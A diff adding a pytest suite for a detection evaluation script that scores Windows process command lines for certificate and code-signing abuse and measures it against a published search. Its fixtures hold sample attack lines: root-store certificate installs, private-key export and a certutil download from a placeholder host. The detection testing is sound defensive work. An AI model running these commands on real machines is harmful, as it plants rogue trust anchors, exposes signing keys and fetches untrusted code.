@@ -1,0 +1,363 @@
+"""`python -m scripts.evaluate`: figures of a small labelled file, with weights of its own so that they stay exact."""
+
+from __future__ import annotations
+
+import gzip
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from scripts import ROOT, evaluate
+from scripts.evaluation import published
+from scripts.evaluation.measures import Rate, auc
+from scripts.evaluation.samples import read_cmdlines
+
+DATA = ROOT.parent / "shared" / "data"
+
+INDICATORS = """indicator,kind,weight,technique,description,false_positives
+add_to_store_root,action,70,T1553.004,,
+signtool_sign_store,action,45,T1553.002,,
+list_certificates,action,8,,,
+export_key,action,15,T1552.004,,
+parent_shell,context,5,,,
+no_timestamp,modifier,0,,,
+"""
+ADD = "certutil -addstore root C:\\lab\\x.cer"
+SIGN = "signtool sign /n Lab /tr http://t.example app.exe"
+LIST = "certutil -store My"
+CMD = "C:\\Windows\\System32\\cmd.exe"
+
+
+def case(name: str, label: str, line: str, **more: object) -> dict[str, object]:
+    image = f"C:\\Windows\\System32\\{line.split()[0]}.exe"
+    return {"id": name, "label": label, "Image": image, "CommandLine": line, "source": "made up", **more}
+
+
+CASES = [
+    case("M1", "malicious", ADD, expect={"CertImport": 1, "HasPFX": 1}, expect_min=60, expect_max=100),
+    case("M2", "malicious", ADD, ParentImage=CMD),
+    case("M3", "malicious", SIGN),
+    case("S1", "suspicious", SIGN, expect={"IsSigntool": 1}, expect_min=50, expect_max=60),
+    case("B1", "benign", LIST),
+    case("B2", "benign", SIGN),
+    case("B3", "benign", "notepad a.txt"),
+    case("B4", "malicious", "certutil -urlcache -f http://h.example/a.exe a.exe", scope="other_technique"),
+]
+
+
+@pytest.fixture(autouse=True)
+def _lookups(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    folder = tmp_path / "lookups"
+    folder.mkdir()
+    (folder / "codesignrisk_indicators.csv").write_text(INDICATORS)
+    (folder / "codesignrisk_parents.csv").write_text("image,class,description\ncmd.exe,shell,\n")
+    (folder / "codesignrisk_allowlist.csv").write_text("rule_id\n")
+    monkeypatch.setattr(evaluate, "LOOKUPS", folder)
+
+
+def write(path: Path, rows: list[dict[str, Any]]) -> str:
+    text = "".join(json.dumps(row) + "\n" for row in rows)
+    path.write_bytes(gzip.compress(text.encode()) if path.suffix == ".gz" else text.encode())
+    return str(path)
+
+
+@pytest.fixture
+def figures(capsys: pytest.CaptureFixture[str]):
+    """Run with --json and give what it prints."""
+
+    def run(*args: str) -> dict[str, Any]:
+        assert evaluate.main([*args, "--json"]) == 0
+        result: dict[str, Any] = json.loads(capsys.readouterr().out)
+        return result
+
+    return run
+
+
+def rate(hits: int, total: int) -> dict[str, int]:
+    return {"hits": hits, "total": total}
+
+
+# -- labelled process starts
+
+
+def test_counts_by_label(figures, tmp_path):
+    groups = figures("--cases", write(tmp_path / "c.jsonl", CASES))["cases"]["groups"]
+    assert groups == {
+        "malicious": {
+            "label": "malicious",
+            "reach": {"60": rate(2, 3), "40": rate(3, 3), "20": rate(3, 3)},
+            "published": rate(2, 3),
+            "bands": {"none": 0, "info": 0, "low": 0, "medium": 1, "high": 2, "critical": 0},
+        },
+        "suspicious": {
+            "label": "suspicious",
+            "reach": {"60": rate(0, 1), "40": rate(1, 1), "20": rate(1, 1)},
+            "published": rate(0, 1),
+            "bands": {"none": 0, "info": 0, "low": 0, "medium": 1, "high": 0, "critical": 0},
+        },
+        # what another technique does must be as silent as what is benign
+        "benign": {
+            "label": "benign",
+            "reach": {"60": rate(0, 4), "40": rate(1, 4), "20": rate(1, 4)},
+            "published": rate(0, 4),
+            "bands": {"none": 2, "info": 1, "low": 0, "medium": 1, "high": 0, "critical": 0},
+        },
+    }
+
+
+def test_order_of_the_labels(figures, tmp_path):
+    aucs = figures("--cases", write(tmp_path / "c.jsonl", CASES))["cases"]["aucs"]
+    # ours: malicious 70 75 45, suspicious 45, benign 8 45 0 0; published: 2 3 0, 0, 0 0 0 0
+    assert aucs == [
+        {"upper": "malicious", "lower": "benign", "ours": 11.5 / 12, "published": 10 / 12},
+        {"upper": "malicious", "lower": "suspicious", "ours": 2.5 / 3, "published": 2.5 / 3},
+        {"upper": "suspicious", "lower": "benign", "ours": 3.5 / 4, "published": 0.5},
+    ]
+
+
+def test_names_every_flag_and_score_that_is_not_as_expected(figures, tmp_path):
+    result = figures("--cases", write(tmp_path / "c.jsonl", CASES))["cases"]
+    assert result["flags"] == rate(2, 3)
+    assert result["flag_errors"] == [
+        {"name": "M1", "label": "malicious", "score": 70, "why": "HasPFX is 0, expected 1", "line": ADD}
+    ]
+    assert [(line["name"], line["score"], line["why"]) for line in result["score_errors"]] == [
+        ("M3", 45, "malicious below 60"),
+        ("S1", 45, "expected 50 to 60"),
+        ("B2", 45, "benign at 40 or more"),
+    ]
+
+
+def test_prints_for_people(capsys, tmp_path):
+    evaluate.main(["--cases", write(tmp_path / "c.jsonl", CASES)])
+    printed = capsys.readouterr().out.splitlines()
+    for line in (
+        "Labelled process starts",
+        "  malicious                              3      2 66.7%     3 100.0%     3 100.0%      2 66.7%",
+        "  malicious/benign                    0.9583      0.8333",
+        "  flags as expected: 2 of 3 (66.7%)",
+        "Flags that are not as expected: 1",
+        "  M1      malicious     70  HasPFX is 0, expected 1",
+        f"          {ADD}",
+        "  FAIL  malicious at 60 or more             2 of 3 (66.7%)          at least 92%",
+        "  pass  benign at 60 or more                0 of 4 (0.0%)           at most 3%",
+    ):
+        assert line in printed
+
+
+def test_check_makes_a_missed_bar_the_exit_status(tmp_path, capsys):
+    file = write(tmp_path / "c.jsonl", CASES)
+    assert evaluate.main(["--cases", file]) == 0
+    assert evaluate.main(["--cases", file, "--check"]) == 1
+    assert evaluate.main(["--cases", write(tmp_path / "good.jsonl", [CASES[1], CASES[4]]), "--check"]) == 0
+    printed = capsys.readouterr().out
+    assert "  n/a   AUC suspicious/benign               -                       at least 0.80" in printed
+
+
+# -- command lines
+
+
+def test_command_lines_have_no_image(figures, tmp_path):
+    rows = [
+        {"CommandLine": ADD, "label": "benign", "tool": "certutil.exe", "_key": "k1"},
+        {"CommandLine": SIGN, "label": "benign", "tool": "signtool.exe", "_key": "k2"},
+        {"CommandLine": ADD, "label": "theft", "tool": "certutil.exe", "_key": "k3"},
+    ]
+    result = figures("--cmdlines", write(tmp_path / "l.jsonl", rows))
+    assert result["cmdlines"]["groups"]["benign"]["reach"] == {"60": rate(1, 2), "40": rate(2, 2), "20": rate(2, 2)}
+    assert result["cmdlines"]["groups"]["theft"]["published"] == rate(1, 1)
+    assert [line["name"] for line in result["cmdlines"]["false_alarms"]] == ["k1"]
+    assert [(bar["name"], bar["passed"]) for bar in result["bars"]] == [("benign command lines at 60 or more", False)]
+
+
+def test_a_row_without_a_tool_is_powershell_text(tmp_path):
+    row = {"CommandLine": 'Import-Certificate "a b.cer"', "label": "benign", "tool": ""}
+    (sample,) = read_cmdlines(Path(write(tmp_path / "l.jsonl", [row])))
+    assert sample.record == {
+        "Image": "powershell.exe",
+        "CommandLine": r'powershell.exe -Command "Import-Certificate \"a b.cer\""',
+    }
+    assert (sample.name, sample.line) == ("1", row["CommandLine"])
+
+
+# -- recorded events
+
+
+def start(line: str, label: str = "unlabelled-background", parent_line: str = "") -> dict[str, Any]:
+    image = f"C:\\Windows\\System32\\{line.split()[0]}.exe"
+    return {
+        "EventCode": "1",
+        "Image": image,
+        "CommandLine": line,
+        "ParentCommandLine": parent_line,
+        "_label": label,
+        "_hit": {"CommandLine": ["x"]},
+    }
+
+
+GATHER = 'cmd /c "certutil -v -store -silent My >> config\\envinfo.txt"'
+
+
+def test_recorded_events(figures, tmp_path):
+    write(
+        tmp_path / "process_creation.jsonl.gz",
+        [
+            start("notepad a.txt"),
+            start(SIGN),
+            start(ADD),
+            start(ADD, "benign"),
+            {"EventCode": "11", "_label": "unlabelled-background"},
+        ],
+    )
+    write(
+        tmp_path / "relevant.jsonl.gz",
+        [
+            start(ADD, "malicious"),
+            start("certutil -p x -exportPFX my.pfx", "theft"),
+            start("certutil -v -store My", "benign", parent_line=GATHER),
+        ],
+    )
+    result = figures("--events", str(tmp_path))
+    assert result["events"]["background"]["reach"] == {"60": rate(1, 3), "40": rate(2, 3), "20": rate(2, 3)}
+    assert [(line["name"], line["score"], line["line"]) for line in result["events"]["noise"]] == [
+        ("3", 70, ADD),
+        ("2", 45, SIGN),
+    ]
+    assert result["events"]["required"] == rate(1, 2)
+    assert [(line["name"], line["score"]) for line in result["events"]["required_missed"]] == [("2", 15)]
+    assert result["events"]["gather_max"] == 8
+    assert {bar["name"]: bar["passed"] for bar in result["bars"]} == {
+        "background at 20 or more": False,
+        "background at 60 or more": False,
+        "required events at 20 or more": False,
+        "gatherNetworkInfo's highest score": True,
+    }
+
+
+# -- input that is not there, or not readable
+
+
+def test_says_where_the_data_should_be(monkeypatch, capsys, tmp_path):
+    monkeypatch.setattr(evaluate, "DATA", tmp_path / "nowhere")
+    with pytest.raises(SystemExit, match="2"):
+        evaluate.main([])
+    assert f"there is no labelled data in {tmp_path / 'nowhere'}: name some with --cases" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        ('{"label": "benign"\n', "c.jsonl line 1: not JSON (Expecting ',' delimiter)"),
+        ("\n[]\n", "c.jsonl line 2: not a JSON object"),
+        ('{"label": "good"}\n', "c.jsonl line 1: label 'good' is none of malicious, suspicious, benign"),
+        ('{"label": "benign", "id": "1"}\n', "c.jsonl line 1: there is no 'CommandLine'"),
+    ],
+)
+def test_names_the_row_that_is_broken(content, message, capsys, tmp_path):
+    (tmp_path / "c.jsonl").write_text(content)
+    assert evaluate.main(["--cases", str(tmp_path / "c.jsonl")]) == 2
+    assert capsys.readouterr().err.strip() == message
+
+
+def test_names_a_file_or_folder_that_is_missing(capsys, tmp_path):
+    assert evaluate.main(["--cases", str(tmp_path / "c.jsonl")]) == 2
+    assert "c.jsonl: cannot be read" in capsys.readouterr().err
+    assert evaluate.main(["--events", str(tmp_path)]) == 2
+    assert "holds neither process_creation.jsonl.gz nor relevant.jsonl.gz" in capsys.readouterr().err
+
+
+# -- the published search
+
+
+@pytest.mark.parametrize(
+    ("image", "line", "parent", "expected"),
+    [
+        # "sign" without a dash or slash is not what its regex looks for
+        ("C:\\sdk\\signtool.exe", "signtool sign /tr http://t.example a.exe", "node.exe", {"IsSigntool": 1}),
+        (
+            "C:\\sdk\\signtool.exe",
+            "signtool /sign /f a.PFX a.exe",
+            "C:\\Windows\\explorer.exe",
+            {"IsSigntool": 1, "SigntoolSignCmd": 1, "HasPFX": 1, "SelfSigned": 1, "SuspiciousParent": 1},
+        ),
+        # /tr also stands in a path, and root in a file's name
+        ("signtool.exe", "signtool sign C:/trunk/a.exe", "", {"IsSigntool": 1}),
+        ("certutil.exe", "certutil -dump myroot.cer", "", {"IsCertutil": 1, "TrustedStoreTarget": 1}),
+        (
+            "certutil.exe",
+            "certutil -addstore TrustedPublisher a.cer",
+            "cmd.exe",
+            {"IsCertutil": 1, "CertImport": 1, "TrustedStoreTarget": 1, "SuspiciousParent": 1},
+        ),
+        ("azuresigntool.exe", "azuresigntool sign -tr http://t.example a.exe", "", {"IsSigntool": 1}),
+        # without a command line nothing is known but the parent
+        ("signtool.exe", "", "cmd.exe", {"IsSigntool": 1, "SuspiciousParent": 1}),
+        # any other image never gets through
+        ("powershell.exe", "certutil -addstore root a.pfx", "cmd.exe", {}),
+    ],
+)
+def test_published_search_looks_for_substrings(image, line, parent, expected):
+    record = {"Image": image, "CommandLine": line, "ParentImage": parent}
+    got = published.assess(record)
+    score = sum(value for name, value in expected.items() if name not in ("IsSigntool", "IsCertutil"))
+    assert {name: value for name, value in got.items() if value and name != "RiskScore"} == expected
+    assert got["RiskScore"] == score
+
+
+def test_published_search_agrees_with_the_recorded_scores():
+    """The labelled cases carry the RiskScore that the published evals gave them."""
+    if not DATA.is_dir():
+        pytest.skip("the labelled cases are not here")
+    rows = [json.loads(line) for line in (DATA / "cases.jsonl").read_text(encoding="utf-8").splitlines()]
+    compared = 0
+    for row in rows:
+        got = published.assess({key: value for key, value in row.items() if key.endswith(("Image", "CommandLine"))})
+        if got["IsSigntool"] or got["IsCertutil"]:
+            compared += 1
+            assert (row["id"], got["RiskScore"]) == (row["id"], row["seed_score"])
+    assert compared > 50
+
+
+# -- the arithmetic
+
+SCORES = st.lists(st.integers(0, 100), min_size=1, max_size=30)
+
+
+@pytest.mark.parametrize(
+    ("upper", "lower", "expected"),
+    [
+        ([3], [1], 1.0),
+        ([1], [3], 0.0),
+        ([2], [2], 0.5),
+        ([1, 2], [1, 3], 0.375),
+        ([], [1], None),
+        ([1], [], None),
+    ],
+)
+def test_auc(upper, lower, expected):
+    assert auc(upper, lower) == expected
+
+
+@given(SCORES, SCORES)
+def test_auc_counts_the_pairs_in_order(upper, lower):
+    pairs = [1.0 if high > low else 0.5 if high == low else 0.0 for high in upper for low in lower]
+    assert auc(upper, lower) == pytest.approx(sum(pairs) / len(pairs))
+
+
+@given(SCORES, SCORES)
+def test_auc_of_swapped_groups_adds_up_to_one(upper, lower):
+    assert auc(upper, lower) + auc(lower, upper) == pytest.approx(1)
+
+
+@given(SCORES, SCORES)
+def test_auc_knows_order_only(upper, lower):
+    assert auc([score**3 for score in upper], [score**3 for score in lower]) == auc(upper, lower)
+
+
+def test_a_rate_of_nothing_has_no_share():
+    assert Rate(0, 0).share is None
+    assert (str(Rate(0, 0)), str(Rate(1, 8))) == ("0 of 0", "1 of 8 (12.5%)")
